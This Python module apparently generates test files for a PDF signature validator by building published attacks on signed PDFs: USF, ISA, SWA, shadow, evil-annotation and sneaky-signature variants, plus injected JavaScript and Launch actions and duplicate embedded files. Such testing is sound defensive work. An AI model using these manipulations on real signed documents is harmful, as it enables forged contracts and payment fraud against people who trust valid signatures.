"""Published attacks on signed PDFs, made from a true certificate, in their published variants.

Sources: Mladenov et al., "1 Trillion Dollar Refund" (CCS 2019): USF, ISA, SWA; Mainka et al.,
"Shadow Attacks" (NDSS 2021): hide, replace, hide and replace; Rohlmann et al., "Breaking the
Specification" (S&P 2021): evil annotation, sneaky signature.
"""

from __future__ import annotations

import re

_RANGE = re.compile(rb"/ByteRange\s*\[([^\]]*)\]")
_CONTENTS = re.compile(rb"/Contents <[0-9A-F]*>")
WORDS = b"BT /F1 20 Tf 100 100 Td (EFFACE) Tj ET"


def _catalog(raw: bytes) -> bytes:
    """The number of the document's catalogue."""
    found = re.search(rb"/Root (\d+) 0 R", raw)
    assert found is not None
    return found[1]


def _page(raw: bytes) -> bytes:
    found = re.search(rb"[\r\n](\d+) 0 obj[^>]{0,200}/Type /Page\b", raw)
    return found[1] if found else b"5"


def _update(raw: bytes, number: bytes, body: bytes, *, table: bool = True) -> bytes:
    """An incremental update that defines one object anew; `table` with its xref."""
    obj = number + b" 0 obj\n" + body + b"\nendobj\n"
    if not table:
        return raw + obj + b"%%EOF\n"
    place, before = len(raw), raw.rindex(b"startxref")
    previous = raw[before:].split()[1]
    return (
        raw
        + obj
        + b"xref\n%s 1\n%010d 00000 n \n" % (number, place)
        + b"trailer\n<< /Size 999 /Root %s 0 R /Prev %s >>\n" % (_catalog(raw), previous)
        + b"startxref\n%d\n%%%%EOF\n" % (place + len(obj))
    )


def _with_range(raw: bytes, text: bytes) -> bytes:
    """Another ByteRange, in the room of the true one where it fits."""
    return _RANGE.sub(lambda old: text.ljust(len(old[0])), raw)


def _wrapped(raw: bytes) -> bytes:
    """SWA: the second part moved on, with something of one's own between the two."""
    found = _RANGE.search(raw)
    assert found is not None
    _, first, second, rest = map(int, found[1].split())
    own = b"999 0 obj\n<< /Length 38 >>\nstream\n" + WORDS + b"\nendstream\nendobj\n"
    moved = b"/ByteRange [0 %d %d %d]" % (first, second + len(own), rest)
    return _with_range(raw[:second] + own + raw[second:], moved)


def _with_tail(raw: bytes, tail: bytes) -> bytes:
    """An update without the parts that a strict reader asks for."""
    return raw + tail + b"%%EOF\n"


def _in_front(raw: bytes) -> bytes:
    """SWA: a document of one's own before the signed one, and the range moved behind it."""
    found = _RANGE.search(raw)
    assert found is not None
    _, first, second, rest = map(int, found[1].split())
    own = b"%PDF-1.7\n1 0 obj\n" + WORDS + b"\nendobj\n"
    n = len(own)
    return own + _with_range(raw, b"/ByteRange [%d %d %d %d]" % (n, first, second + n, rest))


def _table_between(raw: bytes) -> bytes:
    """SWA: as `_wrapped`, with a table that makes the foreign object the catalogue, and the file's
    last word pointing at it.
    """
    found = _RANGE.search(raw)
    assert found is not None
    _, first, second, rest = map(int, found[1].split())
    obj = b"999 0 obj\n<< /Type /Catalog /Pages 998 0 R >>\nendobj\n"
    table = b"xref\n999 1\n%010d 00000 n \ntrailer\n<< /Size 1000 /Root 999 0 R >>\n" % second
    own = obj + table + b"startxref\n%d\n%%%%EOF\n" % (second + len(obj))
    moved = b"/ByteRange [0 %d %d %d]" % (first, second + len(own), rest)
    return _with_range(raw[:second] + own + raw[second:], moved)


def _twice_held(raw: bytes, key: bytes) -> bytes:
    """USF: a key of the signature a second time, empty: which one counts depends on who reads."""
    return raw.replace(b"/SubFilter", key + b"/SubFilter", 1)


def _in_the_padding(raw: bytes) -> bytes:
    """SWA: the room that a signature leaves behind it, closed early and used."""
    found = _CONTENTS.search(raw)
    assert found is not None
    whole = found[0]
    used = len(whole.rstrip(b"0>"))
    used += used % 2
    own = b"> 999 0 obj\n<< >>\nstream\n" + WORDS + b"\nendstream\nendobj\n<00"
    room = len(whole) - used - len(own) - 1
    assert room >= 0, "the signature leaves too little room"
    return raw.replace(whole, whole[:used] + own + b"0" * room + b">", 1)


def _usf(raw: bytes) -> dict[str, bytes]:
    """What a reader may skip a signature for: a part of it that is not as it must be."""
    found = _RANGE.search(raw)
    assert found is not None
    signed = raw.rindex(b" 0 obj", 0, found.start())
    number = re.search(rb"(\d+)$", raw[:signed])
    assert number is not None
    size = len(raw)
    return {
        "USF: a range of all": _with_range(raw, b"/ByteRange [0 %d %d 0]" % (size, size)),
        "USF: a range beyond": _with_range(raw, b"/ByteRange [0 9999999 9999999 9]"),
        "USF: a range of two": _with_range(raw, b"/ByteRange [0 10]"),
        "USF: a range of words": _with_range(raw, b"/ByteRange [a b c d]"),
        "USF: no filter": raw.replace(b"/SubFilter", b"/SubFiltex"),
        "USF: an unknown form": raw.replace(b"/ETSI.CAdES.detached", b"/ETSI.CAdES.detachxx"),
        "USF: no type": raw.replace(b"/Type /Sig", b"/Type /Sag"),
        "USF: contents twice": _twice_held(raw, b"/Contents <> "),
        "USF: range twice": _twice_held(raw, b"/ByteRange [0 0 0 0] "),
        "USF: the object null": _update(raw, number[1], b"null"),
        "USF: the object without a range": _update(raw, number[1], b"<< /Type /Sig >>"),
    }


def _isa(raw: bytes, page: bytes, root: bytes) -> dict[str, bytes]:
    """Something appended, with more or less of what an update consists of."""
    found = _RANGE.search(raw)
    assert found is not None
    begin = raw.rindex(b" 0 obj", 0, found.start())
    body = raw[begin + 6 : raw.index(b"endobj", found.end())]
    obj = page + b" 0 obj\n<< /Type /Page /Contents 999 0 R >>\nendobj\n"
    table = b"xref\n%s 1\n%010d 00000 n \n" % (page, len(raw))
    trailer = b"trailer\n<< /Root %s 0 R >>\n" % root
    return {
        "ISA: a table without a trailer": _with_tail(raw, obj + table),
        "ISA: a trailer without a table": _with_tail(raw, obj + trailer),
        "ISA: a comment behind the end": raw + b"%" + WORDS + b"\n",
        "ISA: the signature copied, with a table": _update(raw, b"999", body),
        "ISA: certification taken off": _update(
            raw, root, b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /SigFlags 0 >> >>"
        ),
        "ISA: a second document": _with_tail(raw, raw),
    }


def _shadow(raw: bytes, page: bytes, root: bytes) -> dict[str, bytes]:
    """What a signer could have hidden is shown by an update that seems to change nothing."""
    place, before = len(raw), raw.rindex(b"startxref")
    trailer = b"trailer\n<< /Size 999 /Root %s 0 R /Prev %s >>\n" % (
        root,
        raw[before:].split()[1],
    )
    end = b"startxref\n%d\n%%%%EOF\n" % place
    freed = b"xref\n%s 1\n0000000000 00001 f \n" % page
    elsewhere = b"xref\n%s 1\n0000000015 00000 n \n" % page
    field = b"<< /FT /Tx /V (EFFACE) /Rect [0 0 600 800] /AP << /N 999 0 R >> >>"
    look = b"<< /Type /XObject /Subtype /Form /Length %d >>\nstream\n%s\nendstream"
    shown = _update(raw, b"999", look % (len(WORDS), WORDS))
    return {
        "shadow: hide, by the table alone": raw + freed + trailer + end,
        "shadow: hide and replace, by the table alone": raw + elsewhere + trailer + end,
        "shadow: replace a field's value": _update(raw, b"998", field),
        "shadow: replace by a field over the page": _update(shown, b"998", field),
        "shadow: replace the form": _update(
            raw, b"9", b"<< /Fields [998 0 R] /NeedAppearances true >>"
        ),
        "shadow: replace a picture": _update(raw, b"10", look % (len(WORDS), WORDS)),
    }


def _certified(raw: bytes, page: bytes, root: bytes) -> dict[str, bytes]:
    """What a certified document may be given afterwards, where it allows that; ours does not."""
    look = b"<< /Type /XObject /Subtype /Form /Length %d >>\nstream\n%s\nendstream"
    shown = _update(raw, b"999", look % (len(WORDS), WORDS))
    kinds = (b"Stamp", b"Redact", b"FreeText", b"Highlight")
    found = {
        f"evil annotation: {kind.decode()}": _update(
            shown,
            page,
            b"<< /Type /Page /Annots [<< /Type /Annot /Subtype /%s /Rect [0 0 600 800]"
            b" /AP << /N 999 0 R >> >>] >>" % kind,
        )
        for kind in kinds
    }
    sneaky = b"<< /FT /Sig /T (two) /Rect [0 0 600 800] /AP << /N 999 0 R >> /V << /Type /Sig >> >>"
    form = b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /SigFlags 3 /Fields [998 0 R] >> >>"
    return found | {
        "sneaky signature: with a look": _update(_update(shown, b"998", sneaky), root, form),
        "sneaky signature: of one's own words": _update(
            raw,
            b"998",
            b"<< /Type /Sig /Filter /Adobe.PPKLite /Contents <00> /ByteRange [0 1 2 3] >>",
        ),
    }


def _active(raw: bytes, page: bytes, root: bytes) -> dict[str, bytes]:
    """What a reader carries out, or shows in another place: actions, layers, forms of XML."""
    script = b"<< /S /JavaScript /JS (app.alert\\('EFFACE'\\)) >>"
    of_root = {
        "open action": b"/OpenAction " + script,
        "a script by name": b"/Names << /JavaScript << /Names [(a) %s] >> >>" % script,
        "a launch": b"/OpenAction << /S /Launch /F (x) >>",
        "layers": b"/OCProperties << /OCGs [9 0 R] /D << /OFF [9 0 R] >> >>",
        "a form of XML": b"/AcroForm << /XFA (<template/>) >>",
        "certification taken off": b"/Perms << >>",
        "usage rights": b"/Perms << /UR3 998 0 R >>",
    }
    found = {
        f"active: {name}": _update(raw, root, b"<< /Type /Catalog /Pages 2 0 R %s >>" % more)
        for name, more in of_root.items()
    }
    acting = b"<< /Type /Page /AA << /O %s >> >>" % script
    return found | {"active: a page's action": _update(raw, page, acting)}


def _two_of_a_name(raw: bytes, root: bytes) -> dict[str, bytes]:
    """A second file of a name that is there: which one is found depends on who looks."""
    tree = re.search(rb"/EmbeddedFiles (\d+) 0 R", raw)
    assert tree is not None
    names = re.search(rb"[\r\n]%s 0 obj\n(<< /Names \[.{0,600}?\] >>)" % tree[1], raw, re.DOTALL)
    assert names is not None
    file = b"<< /Type /EmbeddedFile /Length 2 >>\nstream\n{}\nendstream"
    said = b"<< /Type /Filespec /EF << /F 997 0 R >> /F (record.json) /UF (record.json) >>"
    loose = _update(_update(raw, b"997", file), b"996", said)
    own, name = names[1], b"(record.json) 996 0 R"
    kids = b"<< /Kids [<< /Names [ %s ] /Limits [(a) (z)] >>] >>" % name
    catalog = b"<< /Type /Catalog /Names << /EmbeddedFiles << /Names [ %s ] >> >> >>" % name
    return {
        "two of a name: loose": loose,
        "two of a name: first": _update(loose, tree[1], own.replace(b"[", b"[ " + name, 1)),
        "two of a name: last": _update(loose, tree[1], own.replace(b" ]", b" %s ]" % name, 1)),
        "two of a name: by kids": _update(loose, tree[1], kids),
        "two of a name: another tree": _update(loose, root, catalog),
        "two of a name: two ends": raw + b"%%EOF\n",
        "two of a name: an end of nothing": raw + b"startxref\n0\n%%EOF\n",
        "two of a name: two headers": b"%PDF-1.4\n" + raw,
    }


def attacks(raw: bytes) -> dict[str, bytes]:
    """Each attack's file, by its name."""
    first = _RANGE.search(raw)
    assert first is not None
    words = b"<< /Length %d >>\nstream\n%s\nendstream" % (len(WORDS), WORDS)
    empty = _CONTENTS.sub(b"/Contents <>", raw)
    zeros = _CONTENTS.sub(lambda old: b"/Contents <" + b"0" * (len(old[0]) - 12) + b">", raw)
    page, root = _page(raw), _catalog(raw)
    annotated = b"<< /Type /Page /Annots [ << /Type /Annot /Subtype /FreeText /DA (EFFACE) >> ] >>"
    more = (
        _usf(raw) | _isa(raw, page, root) | _shadow(raw, page, root) | _certified(raw, page, root)
    )
    more |= _active(raw, page, root) | _two_of_a_name(raw, root)
    copied = raw + raw[first.start() - 40 : first.end() + 40] + b"\n%%EOF\n"
    return {
        "USF: no contents": _CONTENTS.sub(b"", raw),
        "USF: empty contents": empty,
        "USF: contents null": _CONTENTS.sub(b"/Contents null", raw),
        "USF: contents of zeros": zeros,
        "USF: no range": _with_range(raw, b""),
        "USF: empty range": _with_range(raw, b"/ByteRange []"),
        "USF: range null": _with_range(raw, b"/ByteRange null"),
        "USF: range of nothing": _with_range(raw, b"/ByteRange [0 0 0 0]"),
        "USF: negative range": _with_range(raw, b"/ByteRange [0 -1 -1 0]"),
        "ISA: with a table": _update(raw, page, words),
        "ISA: without a table": _update(raw, page, words, table=False),
        "ISA: the signature copied": copied,
        "SWA: something between": _wrapped(raw),
        "SWA: a hole at the end": raw + WORDS,
        "SWA: a table between": _table_between(raw),
        "SWA: in front": _in_front(raw),
        "SWA: in the padding": _in_the_padding(raw),
        "shadow: hide": _update(raw, page, b"<< /Type /Page /Contents [] >>"),
        "shadow: replace a font": _update(raw, b"7", b"<< /Type /Font /Subtype /Type3 >>"),
        "shadow: hide and replace": _update(raw, root, b"<< /Type /Catalog /Pages 999 0 R >>"),
        "evil annotation": _update(raw, page, annotated),
        "sneaky signature": _update(raw, b"998", b"<< /FT /Sig /V << /Type /Sig >> >>"),
    } | more
